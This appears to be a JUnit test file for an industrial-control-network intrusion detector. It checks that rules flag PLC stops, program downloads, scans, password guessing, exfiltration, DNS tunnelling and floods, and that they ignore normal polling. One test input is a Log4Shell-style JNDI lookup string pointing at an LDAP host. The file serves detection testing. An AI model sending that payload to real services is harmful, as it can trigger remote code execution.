// SPDX-License-Identifier: Apache-2.0
package weir.analysis.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import weir.analysis.detect.behaviour.AddressConflicts;
import weir.analysis.detect.behaviour.BorrowedAddresses;
import weir.analysis.detect.behaviour.DeviceTalk;
import weir.analysis.detect.behaviour.Newcomers;
import weir.analysis.detect.rule.DeedRules;
import weir.analysis.detect.rule.FunctionScans;
import weir.analysis.detect.rule.Interrogations;
import weir.analysis.detect.rule.Malformed;
import weir.analysis.detect.rule.Probes;
import weir.analysis.detect.rule.Writes;
import weir.analysis.detect.threat.Exfiltration;
import weir.analysis.detect.threat.Exploits;
import weir.analysis.detect.threat.Floods;
import weir.analysis.detect.threat.NameTunnels;
import weir.analysis.detect.threat.PasswordAttacks;
import weir.analysis.detect.threat.RemoteExecution;
import weir.analysis.detect.threat.Sweeps;
import weir.analysis.detect.threat.ToolTransfers;
import weir.model.Attribute;
import weir.model.Severity;
import weir.model.Transfer;
import weir.model.Verb;

/** Each rule says what it is for, and is silent where it has to be. */
class RulesTest {

    private static final String STATION = "10.0.0.1";
    private static final String DEVICE = "10.0.0.2";
    private static final String OTHER = "10.0.0.3";

    private static Staged stage(Detector... detectors) {
        return new Staged(detectors).between(STATION, DEVICE, 502).opened();
    }

    private static List<String> deed(String protocol, Verb verb, String service) {
        return stage(new DeedRules()).asks(protocol, verb, service, "", -1).detections();
    }

    @Test
    void what_is_done_to_a_device_is_named() {
        assertThat(deed("s7comm", Verb.CONTROL, "plc_stop")).containsExactly("PR-01");
        assertThat(deed("s7comm", Verb.PROGRAM, "request_download")).containsExactly("PR-02");
        assertThat(deed("umas", Verb.PROGRAM, "download_block")).containsExactly("PR-03");
        assertThat(deed("cip", Verb.FIRMWARE, "firmware_update")).containsExactly("PR-04");
        assertThat(deed("dnp3", Verb.CONTROL, "cold_restart")).containsExactly("PR-05");
        assertThat(deed("fins", Verb.CONTROL, "forced_set_reset")).containsExactly("PR-07");
        assertThat(deed("modbus", Verb.CONTROL, "force_listen_only")).containsExactly("PR-08");
        assertThat(deed("dnp3", Verb.CONFIGURE, "assign_class")).containsExactly("PR-09");
        assertThat(deed("cip", Verb.CONFIGURE, "lock")).containsExactly("PR-10");
        assertThat(deed("s7comm", Verb.TIME, "set_clock")).containsExactly("PR-12");
        assertThat(deed("dnp3", Verb.FILE, "delete_file")).containsExactly("PR-13");
        assertThat(deed("profinet_dcp", Verb.CONFIGURE, "set_ip")).containsExactly("PR-14");
        assertThat(deed("profinet_dcp", Verb.CONTROL, "factory_reset")).containsExactly("PR-15");
        assertThat(deed("codesys", Verb.AUTHENTICATE, "device_login")).containsExactly("PR-27");
        assertThat(deed("modbus", Verb.READ, "read_coils")).isEmpty();
        assertThat(deed("http", Verb.CONTROL, "anything")).isEmpty();
    }

    @Test
    void a_station_that_writes_what_it_never_reads_is_told_and_an_operators_is_not() {
        Staged stranger = stage(new Writes()).asks("modbus", Verb.WRITE, "write_coil", "coil", 1);
        assertThat(stranger.detections()).containsExactly("PR-06");
        assertThat(stranger.findings().getFirst().severity()).isEqualTo(Severity.MEDIUM);
        Staged operator = stage(new Writes());
        for (int i = 0; i < 4; i++) {
            operator.after(1).asks("modbus", Verb.READ, "read_coils", "coil", 1);
        }
        operator.asks("modbus", Verb.WRITE, "write_coil", "coil", 1);
        assertThat(operator.findings().getFirst().severity()).isEqualTo(Severity.INFO);
    }

    @Test
    void messages_that_break_rules_are_told_by_kind() {
        assertThat(stage(new Malformed()).violates("modbus", "unknown_function").detections())
                .containsExactly("PR-16");
        assertThat(stage(new Malformed()).violates("dnp3", "bad_header_crc").detections())
                .containsExactly("PR-17");
        assertThat(stage(new Malformed())
                        .violates("goose", "state_number_backwards")
                        .detections())
                .containsExactly("PR-23");
        assertThat(stage(new Malformed()).violates("http", "malformed").detections())
                .isEmpty();
    }

    @Test
    void services_tried_out_are_told_and_a_single_refusal_is_not() {
        Staged plant = stage(new FunctionScans());
        plant.refuses("modbus", Verb.OTHER, "function_1", "", -1);
        assertThat(plant.detections()).isEmpty();
        for (int i = 2; i < 7; i++) {
            plant.refuses("modbus", Verb.OTHER, "function_" + i, "", -1);
        }
        assertThat(plant.detections()).containsExactly("PR-18");
    }

    @Test
    void many_questions_about_points_or_identity_are_told() {
        Staged points = stage(new Interrogations());
        for (int i = 0; i < 6; i++) {
            points.asks("mms", Verb.READ, "get_name_list", "domain", i);
        }
        assertThat(points.detections()).containsExactly("PR-19");
        Staged identity = stage(new Interrogations());
        for (int i = 0; i < 6; i++) {
            identity.asks("s7comm", Verb.IDENTIFY, "read_szl", "SZL", i);
        }
        assertThat(identity.detections()).containsExactly("PR-20");
        assertThat(stage(new Interrogations())
                        .asks("s7comm", Verb.IDENTIFY, "read_szl", "SZL", 1)
                        .detections())
                .isEmpty();
    }

    private static Staged known(Detector detector) {
        Staged plant = stage(detector).learn();
        plant.asks("modbus", Verb.READ, "read_coils", "coil", 0);
        plant.answers("modbus", Verb.READ, "read_coils", "coil", 0).speaks("modbus");
        return plant.judge();
    }

    @Test
    void what_is_new_is_named_by_what_it_is() {
        assertThat(known(new Newcomers()).between(OTHER, DEVICE, 502).opened().detections())
                .containsExactly("BL-01", "BL-02");
        assertThat(known(new Newcomers())
                        .between(STATION, DEVICE, 502)
                        .asks("modbus", Verb.DIAGNOSE, "diagnose", "", -1)
                        .detections())
                .containsExactly("BL-03");
        assertThat(known(new Newcomers())
                        .between(STATION, DEVICE, 502)
                        .asks("modbus", Verb.READ, "read_coils", "coil", 99)
                        .detections())
                .containsExactly("BL-04");
        assertThat(known(new Newcomers())
                        .between(OTHER, DEVICE, 502)
                        .asks("modbus", Verb.WRITE, "write_coil", "coil", 1)
                        .detections())
                .containsExactly("BL-05");
        assertThat(known(new Newcomers()).between(DEVICE, OTHER, 445).opened().detections())
                .containsExactly("BL-12");
        assertThat(known(new Newcomers())
                        .between(STATION, DEVICE, 502)
                        .opened()
                        .asks("modbus", Verb.READ, "read_coils", "coil", 0)
                        .detections())
                .isEmpty();
    }

    @Test
    void an_address_that_moves_is_told_and_one_that_stays_is_not() {
        Staged plant = new Staged(new AddressConflicts());
        plant.says("arp", "00:11:22:33:44:55", Attribute.IP, DEVICE);
        plant.says("arp", "00:11:22:33:44:55", Attribute.IP, DEVICE);
        assertThat(plant.detections()).isEmpty();
        plant.says("arp", "00:11:22:33:44:66", Attribute.IP, DEVICE);
        assertThat(plant.detections()).containsExactly("BL-07");
    }

    @Test
    void devices_that_talk_behind_their_masters_back_are_told() {
        Staged plant = new Staged(new DeviceTalk());
        for (String device : List.of(DEVICE, OTHER)) {
            plant.between(STATION, device, 502).opened().speaks("modbus");
        }
        plant.between(STATION, DEVICE, 445).opened().closed("smb", 5, 500, 5, 500);
        assertThat(plant.detections()).isEmpty();
        plant.between(DEVICE, OTHER, 4444).opened().closed("", 20, 9000, 20, 9000);
        assertThat(plant.detections()).containsExactly("IT-11");
    }

    @Test
    void a_sweep_of_addresses_is_told_once_and_a_few_new_ones_are_not() {
        Staged plant = new Staged(new Sweeps());
        for (int i = 1; i <= 5; i++) {
            plant.after(1).between(STATION, "10.0.1." + i, 502).opened();
        }
        assertThat(plant.detections()).isEmpty();
        for (int i = 6; i <= 60; i++) {
            plant.after(0.1).between(STATION, "10.0.1." + i, 502).opened();
        }
        assertThat(plant.findings()).hasSize(1);
        assertThat(plant.detections()).containsExactly("IT-01");
    }

    @Test
    void programs_that_are_brought_are_told_and_documents_are_not() {
        Staged plant = stage(new ToolTransfers());
        assertThat(plant.file("smb", "report.docx", Transfer.Way.INTO_DEVICE).detections())
                .isEmpty();
        assertThat(plant.file("smb", "tool.EXE", Transfer.Way.INTO_DEVICE).detections())
                .containsExactly("IT-02");
    }

    @Test
    void commands_run_from_afar_are_told_and_reading_is_not() {
        assertThat(stage(new RemoteExecution())
                        .asks("dcerpc", Verb.CONTROL, "svcctl_start_service_w", "svcctl", -1)
                        .detections())
                .containsExactly("IT-03");
        assertThat(stage(new RemoteExecution())
                        .asks("dcerpc", Verb.READ, "svcctl_query_service_status", "svcctl", -1)
                        .detections())
                .isEmpty();
    }

    @Test
    void passwords_tried_are_told_and_the_right_one_makes_it_critical() {
        Staged plant = stage(new PasswordAttacks());
        plant.login("ftp", "root", false).login("ftp", "root", false).login("ftp", "root", true);
        assertThat(plant.detections()).isEmpty();
        for (int i = 0; i < 8; i++) {
            plant.after(1).login("ftp", "root", false);
        }
        assertThat(plant.detections()).containsExactly("IT-04");
        plant.login("ftp", "root", true);
        assertThat(plant.findings().getFirst().severity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void a_project_that_leaves_the_plant_is_told_and_one_that_moves_within_is_not() {
        Staged within = new Staged(new Exfiltration(Settings.DEFAULT))
                .between(STATION, DEVICE, 21)
                .opened();
        assertThat(within.file("ftp", "line1.ap16", Transfer.Way.INTO_DEVICE).detections())
                .isEmpty();
        Staged outward = new Staged(new Exfiltration(Settings.DEFAULT))
                .between(STATION, "203.0.113.9", 21)
                .opened();
        assertThat(outward.file("ftp", "line1.ap16", Transfer.Way.INTO_DEVICE).detections())
                .containsExactly("IT-13");
    }

    @Test
    void a_sign_of_a_known_attack_is_told_and_a_usual_program_is_not() {
        Staged plant = stage(new Exploits());
        assertThat(plant.says("http", STATION, Attribute.SOFTWARE, "curl/8.0").detections())
                .isEmpty();
        assertThat(plant.says("http", STATION, Attribute.SOFTWARE, "${jndi:ldap://10.0.0.9/a}")
                        .detections())
                .containsExactly("IT-07");
    }

    @Test
    void a_message_that_breaks_a_limit_of_dns_or_ip_is_grave_for_a_device_of_the_plant_alone() {
        for (String[] sign :
                new String[][] {{"dns", "name_too_long"}, {"dns", "record_beyond_length"}, {"ipv6", "routing_header_0"}
                }) {
            Staged office = stage(new Exploits()).speaks("http").violates(sign[0], sign[1]);
            assertThat(office.findings().getFirst().severity()).isEqualTo(Severity.MEDIUM);
            assertThat(office.findings().getFirst().techniques()).containsExactly("T0866");
            Staged plant = stage(new Exploits()).speaks("modbus").violates(sign[0], sign[1]);
            assertThat(plant.findings().getFirst().severity()).isEqualTo(Severity.HIGH);
        }
        assertThat(stage(new Exploits()).violates("dns", "malformed").detections())
                .isEmpty();
    }

    @Test
    void a_read_of_nothing_and_addresses_tried_out_are_told_as_probes() {
        Detector[] both = {new Probes(), new Malformed()};
        assertThat(stage(both).violates("dnp3", "read_of_nothing").detections()).containsExactly("PR-20");
        assertThat(stage(both).violates("dnp3", "many_masters").detections()).containsExactly("PR-18");
        assertThat(stage(new Probes()).violates("dnp3", "truncated").detections())
                .isEmpty();
    }

    @Test
    void a_host_that_sends_from_another_hardware_address_than_it_is_made_with_is_told() {
        String own = "fe80::210:18ff:fecb:8c13";
        Staged plant =
                new Staged(new AddressConflicts(), new BorrowedAddresses()).between(STATION, "224.0.0.251", 5353);
        plant.on("00:10:18:cb:8c:13", "01:00:5e:00:00:fb").says("mdns", STATION, Attribute.NAME, "host.local");
        plant.says("mdns", own, Attribute.NAME, "host.local");
        plant.on("00:18:64:02:30:fc", "01:00:5e:00:00:fb").says("mdns", own, Attribute.NAME, "other.local");
        plant.says("mdns", "fe80::1234:5678:9abc:def0", Attribute.NAME, "host.local");
        assertThat(plant.detections()).isEmpty();
        plant.says("mdns", own, Attribute.NAME, "host.local");
        assertThat(plant.detections()).containsExactly("BL-07");
        assertThat(plant.findings().getFirst().severity()).isEqualTo(Severity.MEDIUM);
        assertThat(plant.findings().getFirst().seen()).contains("is 00:10:18:cb:8c:13");
        plant.says("arp", "00:10:18:cb:8c:13", Attribute.IP, OTHER).after(7200);
        plant.says("mdns", own, Attribute.NAME, "host.local");
        assertThat(plant.findings().getLast().severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void a_host_that_always_sent_from_another_hardware_address_is_left_alone() {
        Staged plant = new Staged(new BorrowedAddresses()).learn().between(STATION, "224.0.0.251", 5353);
        for (int i = 0; i < 2; i++) {
            plant.on("00:18:64:02:30:fc", "01:00:5e:00:00:fb").says("mdns", STATION, Attribute.NAME, "host.local");
            plant.says("mdns", "fe80::210:18ff:fecb:8c13", Attribute.NAME, "host.local")
                    .judge();
        }
        assertThat(plant.detections()).isEmpty();
    }

    @Test
    void many_long_names_under_one_domain_are_told_and_short_ones_are_not() {
        Staged plant = stage(new NameTunnels());
        for (int i = 0; i < 60; i++) {
            plant.tell(true, Staged.lookup("www" + i + ".example.org"));
        }
        assertThat(plant.detections()).isEmpty();
        for (int i = 0; i < 60; i++) {
            plant.tell(true, Staged.lookup("abcdefghijklmnopqrst" + i + ".example.net"));
        }
        assertThat(plant.detections()).containsExactly("IT-08");
    }

    @Test
    void a_flood_without_answers_is_told_and_polling_is_not() {
        Staged plant = stage(new Floods());
        for (int i = 0; i < 60; i++) {
            plant.after(0.01).asks("dnp3", Verb.CONTROL, "select", "12:1", i);
            plant.answers("dnp3", Verb.CONTROL, "select", "12:1", i);
        }
        assertThat(plant.detections()).isEmpty();
        for (int i = 0; i < 40; i++) {
            plant.after(0.01).asks("dnp3", Verb.CONTROL, "select", "12:1", i);
        }
        assertThat(plant.detections()).containsExactly("IT-18");
    }
}
